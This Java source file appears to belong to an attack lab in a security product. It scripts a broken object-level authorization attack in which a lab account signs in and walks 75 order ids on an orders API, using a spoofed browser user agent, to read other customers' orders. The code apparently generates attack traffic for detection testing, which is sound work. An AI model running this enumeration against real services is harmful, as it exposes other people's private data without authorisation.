package io.periscope.server.attacklab;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;

/**
 * Broken object-level authorization (OWASP API1): a customer signs in with her own account and walks order ids,
 * reading other customers' orders through the API's missing ownership check.
 */
final class BolaAttack implements LabAttack {
    static final String ADDRESS = "203.0.113.55";
    static final int IDS = 75;

    @Override
    public LabActor actor() {
        return LabActor.attacker("BOLA script (orders of others)", List.of(ADDRESS), List.of(LabData.MALLORY.id()), "BOLA");
    }

    @Override
    public void run(String base, Path workDir) throws IOException, InterruptedException {
        LabClient client = new LabClient(base, ADDRESS, "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0");
        String token = client.signIn(LabData.MALLORY.username(), LabData.MALLORY.password());
        client.get("/api/v1/orders", token);
        for (long id = LabData.FIRST_ORDER; id < LabData.FIRST_ORDER + IDS; id++) {
            client.get("/api/v1/orders/" + id, token);
            Thread.sleep(40);
        }
    }
}
